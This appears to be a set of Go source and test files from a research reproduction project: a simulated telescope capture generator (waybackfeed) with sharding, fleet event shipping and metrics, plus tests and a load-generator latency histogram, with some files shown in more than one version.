	// spool), then wait for the coordinator to ack every spooled batch.
	for i, s := range sensors {
		if err := s.pipeline.Close(); err != nil {
			t.Fatalf("%s pipeline drain: %v", ids[i], err)
		}
	}
	for i, s := range sensors {
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		err := s.shipper.WaitDrained(ctx)
		cancel()
		if err != nil {
			t.Fatalf("%s shipper never drained: %v (%+v)", ids[i], err, s.shipper.Metrics())
		}
	}

	if proxy.kills.Load() == 0 {
		t.Fatal("proxy never injected a disconnect; the test exercised nothing")
	}

	// Exactly-once audit: per-sensor sequence accounting. Every assigned
	// sequence is acked (nothing lost), and the coordinator's durable
	// watermark equals the highest assigned sequence (nothing applied twice:
	// a duplicate apply would have forced the watermark past the spool).
	var shippedEvents int64
	for i, s := range sensors {
		m := s.shipper.Metrics()
		if m.Spooled != 0 || m.AckedSeq != m.LastSeq {
			t.Errorf("%s: spool not drained: %+v", ids[i], m)
		}
		if w := coord.fl.Watermarks().Get(ids[i]); w != m.LastSeq {
			t.Errorf("%s: watermark %d, sensor assigned through %d", ids[i], w, m.LastSeq)
		}
		if m.SentBatch < m.LastSeq {
			t.Errorf("%s: sent %d batch frames for %d batches", ids[i], m.SentBatch, m.LastSeq)
		}
		shippedEvents += int64(s.pipeline.Metrics().Events)
	}

	// Zero loss, zero duplication: the union of the three shards is exactly
	// the batch study's event set.
	if got := coord.store.Len(); got != len(batch.Events) {
		t.Fatalf("store holds %d events, batch found %d (shipped %d)", got, len(batch.Events), shippedEvents)
	}
	if shippedEvents != int64(len(batch.Events)) {
		t.Errorf("sensors matched %d events, batch found %d", shippedEvents, len(batch.Events))
	}

	// The paper's Table 4 over the fleet-assembled store is byte-identical to
	// the batch run.
	ts := httptest.NewServer(coord.srv.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/v1/tables/4")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("tables/4: %d: %s", resp.StatusCode, body)
	}
	if string(body) != wantTable4 {
		t.Errorf("fleet Table 4 differs from batch run:\n--- fleet ---\n%s--- batch ---\n%s", body, wantTable4)
	}

	// The fleet status surface saw all three sensors.
	statuses := coord.fl.Sensors()
	if len(statuses) != shards {
		t.Fatalf("coordinator knows %d sensors, want %d", len(statuses), shards)
	}
	t.Logf("proxy kills: %d; per-sensor: %+v", proxy.kills.Load(), statuses)
}

// collectSink records batches and keeps the slices it was handed, the way
// the fleet shipper's spool does.
type collectSink struct{ batches [][]ids.Event }

func (c *collectSink) AppendBatch(events []ids.Event) error {
	c.batches = append(c.batches, events)
	return nil
}

// TestShardSinkDoesNotMutateCaller: the shard filter must hand its inner
// sink a fresh slice. Filtering with events[:0] would rearrange the caller's
// batch in place while the spool retains the filtered view — correctness
// must not depend on the caller discarding the batch after AppendBatch.
func TestShardSinkDoesNotMutateCaller(t *testing.T) {
	const shards = 3
	events := make([]ids.Event, 30)
	for i := range events {
		events[i] = ids.Event{
			Dst: packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("18.204.9.%d", i+1)), Port: 443},
			SID: i,
		}
	}
	orig := append([]ids.Event(nil), events...)
	inner := &collectSink{}
	s := &shardSink{inner: inner, shard: 0, shards: shards}
	if err := s.AppendBatch(events); err != nil {
		t.Fatal(err)
	}
	for i := range events {
		if events[i] != orig[i] {
			t.Fatalf("AppendBatch mutated the caller's slice at %d: %+v", i, events[i])
		}
	}
	if len(inner.batches) != 1 {
		t.Fatalf("%d inner batches", len(inner.batches))
	}
	for _, ev := range inner.batches[0] {
		if fleet.ShardOf(ev.Dst.Addr, shards) != 0 {
			t.Fatalf("kept event outside shard 0: %+v", ev)
		}
	}
}

func TestRunFlagValidation(t *testing.T) {
	if err := run([]string{}); err == nil {
		t.Error("missing required flags accepted")
	}
	if err := run([]string{
		"-watch", t.TempDir(), "-state", t.TempDir(),
		"-coordinator", "127.0.0.1:1", "-id", "x",
		"-shard", "3", "-shards", "3",
	}); err == nil {
		t.Error("out-of-range shard accepted")
	}
	if err := run([]string{
		"-watch", t.TempDir(), "-state", t.TempDir(),
		"-coordinator", "127.0.0.1:1", "-id", "x", "-codec", "bogus",
	}); err == nil {
		t.Error("bogus codec accepted")
	}
}
