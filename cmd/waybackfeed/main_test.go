package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/wayback"
)

func TestFeedWritesReplayableSegments(t *testing.T) {
	dir := t.TempDir()
	err := run([]string{
		"-dir", dir, "-seed", "1", "-scale", "500",
		"-segment-bytes", "32768", "-prefix", "feed",
	})
	if err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(dir, "feed-*.pcap"))
	if err != nil || len(files) < 2 {
		t.Fatalf("wrote %d segments (err %v); rotation untested", len(files), err)
	}
	// Every segment must replay cleanly end to end.
	src, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	packets := 0
	for {
		_, err := src.Next()
		if err != nil {
			if errors.Is(err, io.EOF) {
				break
			}
			t.Fatalf("after %d packets: %v", packets, err)
		}
		packets++
	}
	if packets == 0 {
		t.Fatal("no packets written")
	}
	// Deterministic: a second run with the same seed writes identical bytes.
	dir2 := t.TempDir()
	if err := run([]string{"-dir", dir2, "-seed", "1", "-scale", "500",
		"-segment-bytes", "32768", "-prefix", "feed"}); err != nil {
		t.Fatal(err)
	}
	b1, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	b2, err := os.ReadFile(filepath.Join(dir2, filepath.Base(files[0])))
	if err != nil {
		t.Fatal(err)
	}
	if string(b1) != string(b2) {
		t.Fatal("same seed produced different capture bytes")
	}

	if err := run([]string{}); err == nil {
		t.Error("missing -dir accepted")
	}
}

// memSink collects fleet-delivered batches in memory.
type memSink struct {
	mu     sync.Mutex
	events []ids.Event
}

func (s *memSink) AppendBatch(evs []ids.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.events = append(s.events, evs...)
	return nil
}

func (s *memSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.events)
}

// TestStreamShipsEventsToFleet runs two -stream sensors, one per address
// shard, against one in-memory coordinator: together they must deliver
// exactly the unsharded study's attributed events — with no pcap bytes ever
// written anywhere.
func TestStreamShipsEventsToFleet(t *testing.T) {
	const seed, scale = 1, 800
	ref, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale, Streaming: true})
	if err != nil {
		t.Fatal(err)
	}
	want := 0
	if _, err := ref.RunStream(func(evs []ids.Event) error { want += len(evs); return nil }); err != nil {
		t.Fatal(err)
	}
	if want == 0 {
		t.Fatal("reference study attributed no events; weak test input")
	}

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	sink := &memSink{}
	l, err := fleet.Listen(fleet.ListenerConfig{Listener: ln, Sink: sink, Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()

	stateRoot := t.TempDir()
	for shard := 0; shard < 2; shard++ {
		err := run([]string{
			"-stream", "-seed", fmt.Sprint(seed), "-scale", fmt.Sprint(scale),
			"-shards", "2", "-shard", fmt.Sprint(shard),
			"-coordinator", ln.Addr().String(),
			"-state", filepath.Join(stateRoot, fmt.Sprintf("s%d", shard)),
			"-id", fmt.Sprintf("sensor-%d", shard),
		})
		if err != nil {
			t.Fatalf("shard %d: %v", shard, err)
		}
	}

	// run waits for acks, and acks only follow durable apply, so the sink is
	// already complete; the brief poll just absorbs scheduling slack.
	deadline := time.Now().Add(5 * time.Second)
	for sink.count() != want && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	if got := sink.count(); got != want {
		t.Fatalf("coordinator received %d events, want %d", got, want)
	}

	// The whole path must be pcap-free: nothing under the spool tree (the
	// only directory the sensors may write) looks like a capture file.
	err = filepath.WalkDir(stateRoot, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if strings.Contains(strings.ToLower(d.Name()), "pcap") {
			t.Errorf("stream mode wrote a capture-like file: %s", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestStreamMetricsEndpoint exercises -metrics-listen through the flag path:
// the endpoint must be up while the stream runs and expose the generator
// gauges.
func TestStreamMetricsEndpoint(t *testing.T) {
	var body string
	metricsReady = func(addr string) {
		resp, err := http.Get("http://" + addr + "/metrics")
		if err != nil {
			t.Errorf("scraping metrics: %v", err)
			return
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Errorf("reading metrics: %v", err)
			return
		}
		body = string(b)
	}
	defer func() { metricsReady = nil }()

	if err := run([]string{"-stream", "-seed", "2", "-scale", "2000", "-metrics-listen", "127.0.0.1:0"}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		"waybackd_stream_blueprints_total",
		"waybackd_stream_packets_total",
		"waybackd_stream_sessions_total",
		"waybackd_stream_generator_lag",
	} {
		if !strings.Contains(body, name) {
			t.Errorf("metrics output missing %s:\n%s", name, body)
		}
	}
}

// TestMetricsHandlerReportsProgress checks the gauge values: after a
// streaming run the counters must reflect the completed capture.
func TestMetricsHandlerReportsProgress(t *testing.T) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 2000, Streaming: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := study.RunStream(nil); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(metricsHandler(study))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"stream_blueprints_total", "stream_packets_total", "stream_sessions_total"} {
		found := false
		for _, line := range strings.Split(string(b), "\n") {
			var v uint64
			if n, _ := fmt.Sscanf(line, "waybackd_"+name+" %d", &v); n == 1 {
				found = true
				if v == 0 {
					t.Errorf("%s is zero after a completed run", name)
				}
			}
		}
		if !found {
			t.Errorf("metrics output missing %s", name)
		}
	}
}
