package main

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"

	"repro/internal/pcapio"
)

func TestFeedWritesReplayableSegments(t *testing.T) {
	dir := t.TempDir()
	err := run([]string{
		"-dir", dir, "-seed", "1", "-scale", "500",
		"-segment-bytes", "32768", "-prefix", "feed",
	})
	if err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(dir, "feed-*.pcap"))
	if err != nil || len(files) < 2 {
		t.Fatalf("wrote %d segments (err %v); rotation untested", len(files), err)
	}
	// Every segment must replay cleanly end to end.
	src, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	packets := 0
	for {
		_, err := src.Next()
		if err != nil {
			if errors.Is(err, io.EOF) {
				break
			}
			t.Fatalf("after %d packets: %v", packets, err)
		}
		packets++
	}
	if packets == 0 {
		t.Fatal("no packets written")
	}
	// Deterministic: a second run with the same seed writes identical bytes.
	dir2 := t.TempDir()
	if err := run([]string{"-dir", dir2, "-seed", "1", "-scale", "500",
		"-segment-bytes", "32768", "-prefix", "feed"}); err != nil {
		t.Fatal(err)
	}
	b1, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	b2, err := os.ReadFile(filepath.Join(dir2, filepath.Base(files[0])))
	if err != nil {
		t.Fatal(err)
	}
	if string(b1) != string(b2) {
		t.Fatal("same seed produced different capture bytes")
	}

	if err := run([]string{}); err == nil {
		t.Error("missing -dir accepted")
	}
}
