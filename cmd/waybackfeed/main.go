// Command waybackfeed generates the simulated telescope capture as rotating
// pcap segments in a watch directory — the traffic source for waybackd. It
// is the deployment stand-in for a live telescope's packet recorder: same
// segment naming, same rotation behavior, optionally paced so the daemon
// genuinely tails a growing capture.
//
// Usage:
//
//	waybackfeed -dir capture/ [-seed 1] [-scale 50] [-noise 0]
//	            [-prefix dscope] [-segment-bytes 262144] [-delay 0]
//	            [-shard 0 -shards 1]
//
// With the same seed and scale, waybackd's analyses over this capture match
// a batch wayback.Study run byte for byte.
//
// With -shards N, only the sessions whose destination falls in -shard's
// slice of the telescope address space are written — the capture a single
// fleet sensor would see. N feeds with shards 0..N-1 partition the full
// study exactly: every session lands in one shard, so a sensor per shard
// converges to the same analysis as one unsharded daemon.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/fleet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackfeed:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybackfeed", flag.ContinueOnError)
	dir := fs.String("dir", "", "watch directory to write segments into (required)")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	seed := fs.Int64("seed", 1, "study seed")
	scale := fs.Int("scale", 50, "event volume divisor (1 = full 115k-event study)")
	noise := fs.Int("noise", 0, "non-exploit background sessions (0 = one tenth of exploits)")
	segBytes := fs.Int64("segment-bytes", 256<<10, "rotate segments at this size")
	delay := fs.Duration("delay", 0, "pause between 100-session chunks (paces the feed for live tailing)")
	shard := fs.Int("shard", 0, "write only this address-space shard of the capture")
	shards := fs.Int("shards", 1, "total shards the capture is split into")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *dir == "" {
		return fmt.Errorf("-dir is required")
	}
	if *shards < 1 || *shard < 0 || *shard >= *shards {
		return fmt.Errorf("-shard %d out of range of -shards %d", *shard, *shards)
	}
	if err := os.MkdirAll(*dir, 0o755); err != nil {
		return err
	}

	bps, err := scanner.Build(scanner.Config{Seed: *seed, Scale: *scale, Noise: *noise})
	if err != nil {
		return err
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: *seed})
	sessions := tel.Sessions(bps)
	if *shards > 1 {
		kept := sessions[:0]
		for i := range sessions {
			if fleet.ShardOf(sessions[i].Server.Addr, *shards) == *shard {
				kept = append(kept, sessions[i])
			}
		}
		sessions = kept
	}

	// Nanosecond precision so session start times survive the pcap round
	// trip exactly — the byte-for-byte table equality depends on it.
	rw, err := pcapio.NewRotatingWriter(*dir, *prefix, pcapio.LinkTypeEthernet, *segBytes,
		pcapio.WithNanoPrecision())
	if err != nil {
		return err
	}
	const chunk = 100
	for start := 0; start < len(sessions); start += chunk {
		end := start + chunk
		if end > len(sessions) {
			end = len(sessions)
		}
		if err := telescope.SessionsToPcap(sessions[start:end], rw, *seed); err != nil {
			rw.Close()
			return err
		}
		if *delay > 0 && end < len(sessions) {
			time.Sleep(*delay)
		}
	}
	if err := rw.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %d sessions as %d segments under %s\n", len(sessions), len(rw.Files()), *dir)
	return nil
}
