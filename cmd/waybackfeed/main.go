// Command waybackfeed generates the simulated telescope capture — either as
// rotating pcap segments in a watch directory (the traffic source for
// waybackd's tailer) or, with -stream, as a zero-materialization pipeline
// that synthesizes, scans, and ships attributed events without a single
// pcap byte touching memory or disk.
//
// Usage:
//
//	waybackfeed -dir capture/ [-seed 1] [-scale 50] [-noise 0]
//	            [-prefix dscope] [-segment-bytes 262144] [-delay 0]
//	            [-shard 0 -shards 1]
//
//	waybackfeed -stream [-seed 1] [-scale 50] [-noise 0]
//	            [-segments 0] [-shard 0 -shards 1]
//	            [-coordinator host:8417 -state spool/ -id sensor-a]
//	            [-metrics-listen 127.0.0.1:9100]
//
// With the same seed and scale, waybackd's analyses over this capture match
// a batch wayback.Study run byte for byte — the -stream path is parity-tested
// against the pcap path.
//
// With -shards N, only the traffic whose destination falls in -shard's slice
// of the telescope address space is kept — the capture a single fleet sensor
// would see. N feeds with shards 0..N-1 partition the full study exactly:
// every session lands in one shard, so a sensor per shard converges to the
// same analysis as one unsharded daemon.
//
// In -stream mode with -coordinator, attributed events ship over the fleet
// protocol (durably spooled in -state, exactly-once on the coordinator);
// without it the run is a dry run that prints the scan summary.
// -metrics-listen serves Prometheus-style gauges while the stream runs:
// waybackd_stream_blueprints_total, waybackd_stream_packets_total,
// waybackd_stream_sessions_total, and waybackd_stream_generator_lag.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"sync/atomic"
	"time"

	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
	"repro/wayback"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackfeed:", err)
		os.Exit(1)
	}
}

// metricsReady, when set (tests), receives the bound -metrics-listen address
// before the stream starts.
var metricsReady func(addr string)

func run(args []string) error {
	fs := flag.NewFlagSet("waybackfeed", flag.ContinueOnError)
	dir := fs.String("dir", "", "watch directory to write segments into (required unless -stream)")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	seed := fs.Int64("seed", 1, "study seed")
	scale := fs.Int("scale", 50, "event volume divisor (1 = full 115k-event study)")
	noise := fs.Int("noise", 0, "non-exploit background sessions (0 = one tenth of exploits)")
	segBytes := fs.Int64("segment-bytes", 256<<10, "rotate segments at this size")
	delay := fs.Duration("delay", 0, "pause between 100-session chunks (paces the feed for live tailing)")
	shard := fs.Int("shard", 0, "keep only this address-space shard of the capture")
	shards := fs.Int("shards", 1, "total shards the capture is split into")
	stream := fs.Bool("stream", false, "stream mode: synthesize, scan, and ship events with no pcap bytes")
	segments := fs.Int("segments", 0, "stream mode: virtual capture segments (0 = min(8, GOMAXPROCS))")
	coordinator := fs.String("coordinator", "", "stream mode: fleet address to ship attributed events to")
	state := fs.String("state", "", "stream mode: shipper spool directory (required with -coordinator)")
	sensorID := fs.String("id", "waybackfeed", "stream mode: stable sensor ID for the fleet watermark")
	metricsListen := fs.String("metrics-listen", "", "stream mode: serve /metrics on this address while streaming")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *shards < 1 || *shard < 0 || *shard >= *shards {
		return fmt.Errorf("-shard %d out of range of -shards %d", *shard, *shards)
	}
	if *stream {
		return runStream(streamOpts{
			seed: *seed, scale: *scale, noise: *noise, segments: *segments,
			shard: *shard, shards: *shards,
			coordinator: *coordinator, state: *state, sensorID: *sensorID,
			metricsListen: *metricsListen,
		})
	}
	if *dir == "" {
		return fmt.Errorf("-dir is required")
	}
	if err := os.MkdirAll(*dir, 0o755); err != nil {
		return err
	}

	bps, err := scanner.Build(scanner.Config{Seed: *seed, Scale: *scale, Noise: *noise})
	if err != nil {
		return err
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: *seed})
	sessions := tel.Sessions(bps)
	if *shards > 1 {
		kept := sessions[:0]
		for i := range sessions {
			if fleet.ShardOf(sessions[i].Server.Addr, *shards) == *shard {
				kept = append(kept, sessions[i])
			}
		}
		sessions = kept
	}

	// Nanosecond precision so session start times survive the pcap round
	// trip exactly — the byte-for-byte table equality depends on it.
	rw, err := pcapio.NewRotatingWriter(*dir, *prefix, pcapio.LinkTypeEthernet, *segBytes,
		pcapio.WithNanoPrecision())
	if err != nil {
		return err
	}
	const chunk = 100
	for start := 0; start < len(sessions); start += chunk {
		end := start + chunk
		if end > len(sessions) {
			end = len(sessions)
		}
		if err := telescope.SessionsToPcap(sessions[start:end], rw, *seed); err != nil {
			rw.Close()
			return err
		}
		if *delay > 0 && end < len(sessions) {
			time.Sleep(*delay)
		}
	}
	if err := rw.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %d sessions as %d segments under %s\n", len(sessions), len(rw.Files()), *dir)
	return nil
}

type streamOpts struct {
	seed          int64
	scale, noise  int
	segments      int
	shard, shards int
	coordinator   string
	state         string
	sensorID      string
	metricsListen string
}

// runStream is the zero-materialization path: the study's streaming pipeline
// (lazy generation → virtual segments → sharded reassembly → matching) feeds
// a sink that optionally ships over the fleet protocol. No pcap bytes exist
// at any point.
func runStream(o streamOpts) error {
	study, err := wayback.NewStudy(wayback.Config{
		Seed: o.seed, Scale: o.scale, Noise: o.noise,
		Streaming: true, StreamSegments: o.segments,
	})
	if err != nil {
		return err
	}

	var ship *fleet.Shipper
	if o.coordinator != "" {
		if o.state == "" {
			return fmt.Errorf("-coordinator requires -state for the durable spool")
		}
		ship, err = fleet.StartShipper(fleet.ShipperConfig{
			Addr:     o.coordinator,
			SensorID: o.sensorID,
			Shard:    o.shard,
			Shards:   o.shards,
			StateDir: o.state,
		})
		if err != nil {
			return err
		}
		defer ship.Close()
	}

	if o.metricsListen != "" {
		ln, err := net.Listen("tcp", o.metricsListen)
		if err != nil {
			return err
		}
		srv := &http.Server{Handler: metricsHandler(study)}
		go srv.Serve(ln)
		defer srv.Close()
		if metricsReady != nil {
			metricsReady(ln.Addr().String())
		}
	}

	var attributed, shipped int64
	sink := func(events []ids.Event) error {
		if o.shards > 1 {
			kept := events[:0]
			for _, ev := range events {
				if fleet.ShardOf(ev.Dst.Addr, o.shards) == o.shard {
					kept = append(kept, ev)
				}
			}
			events = kept
		}
		attributed += int64(len(events))
		if ship == nil || len(events) == 0 {
			return nil
		}
		shipped += int64(len(events))
		return ship.AppendBatch(events)
	}

	res, err := study.RunStream(sink)
	if err != nil {
		return err
	}
	if ship != nil {
		if err := ship.Sync(); err != nil {
			return err
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if err := ship.WaitDrained(ctx); err != nil {
			return fmt.Errorf("waiting for coordinator acks: %w", err)
		}
	}
	m, _ := study.StreamMetrics()
	fmt.Printf("streamed %d sessions as %d packets: %d matched, %d attributed to this shard, %d shipped\n",
		m.Sessions, res.Stats.Packets, res.Stats.MatchedEvents, attributed, shipped)
	return nil
}

// metricsHandler serves the generator's progress in Prometheus text format,
// matching waybackd's metric naming.
func metricsHandler(study *wayback.Study) http.Handler {
	mux := http.NewServeMux()
	var scrapes atomic.Int64
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		scrapes.Add(1)
		m, _ := study.StreamMetrics()
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		g := func(name string, v any) { fmt.Fprintf(w, "waybackd_%s %v\n", name, v) }
		g("stream_blueprints_total", m.Blueprints)
		g("stream_packets_total", m.Packets)
		g("stream_sessions_total", m.Sessions)
		g("stream_generator_lag", m.Lag)
		g("stream_metrics_scrapes_total", scrapes.Load())
	})
	return mux
}
