// Command waybackfeed generates the simulated telescope capture as rotating
// pcap segments in a watch directory — the traffic source for waybackd. It
// is the deployment stand-in for a live telescope's packet recorder: same
// segment naming, same rotation behavior, optionally paced so the daemon
// genuinely tails a growing capture.
//
// Usage:
//
//	waybackfeed -dir capture/ [-seed 1] [-scale 50] [-noise 0]
//	            [-prefix dscope] [-segment-bytes 262144] [-delay 0]
//
// With the same seed and scale, waybackd's analyses over this capture match
// a batch wayback.Study run byte for byte.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackfeed:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybackfeed", flag.ContinueOnError)
	dir := fs.String("dir", "", "watch directory to write segments into (required)")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	seed := fs.Int64("seed", 1, "study seed")
	scale := fs.Int("scale", 50, "event volume divisor (1 = full 115k-event study)")
	noise := fs.Int("noise", 0, "non-exploit background sessions (0 = one tenth of exploits)")
	segBytes := fs.Int64("segment-bytes", 256<<10, "rotate segments at this size")
	delay := fs.Duration("delay", 0, "pause between 100-session chunks (paces the feed for live tailing)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *dir == "" {
		return fmt.Errorf("-dir is required")
	}
	if err := os.MkdirAll(*dir, 0o755); err != nil {
		return err
	}

	bps, err := scanner.Build(scanner.Config{Seed: *seed, Scale: *scale, Noise: *noise})
	if err != nil {
		return err
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: *seed})
	sessions := tel.Sessions(bps)

	// Nanosecond precision so session start times survive the pcap round
	// trip exactly — the byte-for-byte table equality depends on it.
	rw, err := pcapio.NewRotatingWriter(*dir, *prefix, pcapio.LinkTypeEthernet, *segBytes,
		pcapio.WithNanoPrecision())
	if err != nil {
		return err
	}
	const chunk = 100
	for start := 0; start < len(sessions); start += chunk {
		end := start + chunk
		if end > len(sessions) {
			end = len(sessions)
		}
		if err := telescope.SessionsToPcap(sessions[start:end], rw, *seed); err != nil {
			rw.Close()
			return err
		}
		if *delay > 0 && end < len(sessions) {
			time.Sleep(*delay)
		}
	}
	if err := rw.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %d sessions as %d segments under %s\n", len(sessions), len(rw.Files()), *dir)
	return nil
}
