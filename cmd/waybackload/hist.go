package main

import (
	"fmt"
	"math/bits"
	"time"
)

// hist is a log-linear latency histogram in the HDR style: values below 32
// land in unit-width buckets; above that, each power-of-two octave is split
// into 32 equal sub-buckets, bounding quantile error at ~3% of the reported
// value while the whole structure stays a flat fixed-size array — recording
// is one index computation and one increment, no allocation, so the load
// generator's measurement cost cannot distort the latencies it measures.
//
// Values are recorded in nanoseconds. The top bucket index for any int64
// nanosecond value is 1887, so histBuckets covers the full range.
const histBuckets = 1888

type hist struct {
	counts [histBuckets]uint64
	total  uint64
	max    int64
	sum    int64
}

// bucketOf maps a non-negative value to its bucket index.
func bucketOf(u int64) int {
	if u < 32 {
		return int(u)
	}
	e := bits.Len64(uint64(u)) - 1 // 2^e <= u < 2^(e+1)
	k := e - 4
	return k*32 + int(u>>(k-1)) - 32
}

// bucketMax is the largest value that maps into bucket idx — quantiles report
// this upper edge, so they never understate a latency.
func bucketMax(idx int) int64 {
	if idx < 32 {
		return int64(idx)
	}
	k := (idx-32)/32 + 1
	m := int64((idx - 32) % 32)
	return (32+m+1)<<(k-1) - 1
}

func (h *hist) record(d time.Duration) {
	u := int64(d)
	if u < 0 {
		u = 0
	}
	h.counts[bucketOf(u)]++
	h.total++
	h.sum += u
	if u > h.max {
		h.max = u
	}
}

// merge folds other into h; each client records into its own hist so the hot
// path is lock-free, and the report merges them once at the end.
func (h *hist) merge(other *hist) {
	for i, c := range other.counts {
		h.counts[i] += c
	}
	h.total += other.total
	h.sum += other.sum
	if other.max > h.max {
		h.max = other.max
	}
}

// quantile returns the upper edge of the bucket holding the q-th value
// (0 < q <= 1). The true max is substituted for the top occupied bucket so
// p100 is exact.
func (h *hist) quantile(q float64) time.Duration {
	if h.total == 0 {
		return 0
	}
	rank := uint64(q * float64(h.total))
	if rank < 1 {
		rank = 1
	}
	if rank > h.total {
		rank = h.total
	}
	var seen uint64
	for i, c := range h.counts {
		seen += c
		if seen >= rank {
			v := bucketMax(i)
			if v > h.max {
				v = h.max
			}
			return time.Duration(v)
		}
	}
	return time.Duration(h.max)
}

func (h *hist) mean() time.Duration {
	if h.total == 0 {
		return 0
	}
	return time.Duration(h.sum / int64(h.total))
}

func fmtDur(d time.Duration) string {
	switch {
	case d < time.Millisecond:
		return fmt.Sprintf("%.0fµs", float64(d)/float64(time.Microsecond))
	case d < time.Second:
		return fmt.Sprintf("%.1fms", float64(d)/float64(time.Millisecond))
	default:
		return fmt.Sprintf("%.2fs", float64(d)/float64(time.Second))
	}
}
