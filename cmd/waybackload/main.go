// Command waybackload drives a waybackd read path with an open-loop,
// QPS-ramped HTTP workload and reports latency quantiles per stage.
//
//	waybackload -addr 127.0.0.1:8080 -qps 50,200 -stage 10s -clients 8 \
//	    -endpoints 'tables/4:4,tables/5:2,figures/3:1,figures/7:1' \
//	    -asof 2021-07-01T00:00:00Z -asof-frac 0.25 \
//	    -slo-p99 250ms -max-error-rate 0
//
// The load model is open-loop: a shared ticket counter assigns each request a
// scheduled send time derived from the stage's target QPS, and latency is
// measured from that *scheduled* time, not from when a worker finally got
// around to sending. A server that stalls therefore shows the stall in the
// tail quantiles instead of silently throttling the generator — the classic
// coordinated-omission trap that closed-loop "send, wait, repeat" rigs fall
// into.
//
// Each -qps entry is one stage of -stage duration; stages run in order, so
// "50,200" ramps from a warm baseline to the stress level under one process.
// -slo-p99 gates the worst per-stage p99 and -max-error-rate the overall
// error fraction; a violated gate exits nonzero, which is what CI's loadsmoke
// job keys off.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

type endpoint struct {
	path   string
	weight int
}

type loadConfig struct {
	base      string
	endpoints []endpoint
	asof      []string
	asofFrac  float64
	clients   int
	qps       []float64
	stage     time.Duration
	warmup    time.Duration
	timeout   time.Duration
	seed      int64
	sloP99    time.Duration
	maxErrRat float64
	jsonOut   string
}

// stageResult is one completed stage's merged measurement.
type stageResult struct {
	TargetQPS   float64 `json:"target_qps"`
	Sent        uint64  `json:"sent"`
	Errors      uint64  `json:"errors"`
	AchievedQPS float64 `json:"achieved_qps"`
	P50Ms       float64 `json:"p50_ms"`
	P90Ms       float64 `json:"p90_ms"`
	P99Ms       float64 `json:"p99_ms"`
	MaxMs       float64 `json:"max_ms"`
	MeanMs      float64 `json:"mean_ms"`

	p50, p90, p99, max, mean time.Duration
}

type report struct {
	Addr      string        `json:"addr"`
	Stages    []stageResult `json:"stages"`
	WorstP99  float64       `json:"worst_p99_ms"`
	ErrorRate float64       `json:"error_rate"`
}

func main() {
